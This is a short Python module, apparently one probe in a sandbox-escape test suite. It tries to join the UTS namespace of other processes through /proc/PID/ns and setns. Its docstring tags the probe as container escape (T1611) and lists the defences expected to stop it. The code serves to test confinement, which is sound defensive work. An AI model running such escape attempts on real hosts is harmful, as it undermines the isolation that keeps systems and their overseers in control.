"""Join the namespaces of another process by /proc/PID/ns.

gain: the host's network, files or processes
attack: T1611
stopped by: pid namespace, ptrace check, seccomp, capabilities
unconfined: host
also refused by: ENOENT
"""

import os

from attacker import call, each, first


def attempt(world):
    def join(pid):
        fd = os.open(f"/proc/{pid}/ns/uts", os.O_RDONLY)
        call("setns", fd, 0)
        return f"joined the UTS namespace of process {pid}"

    return first(*each([*world["pids"], "self"], join))
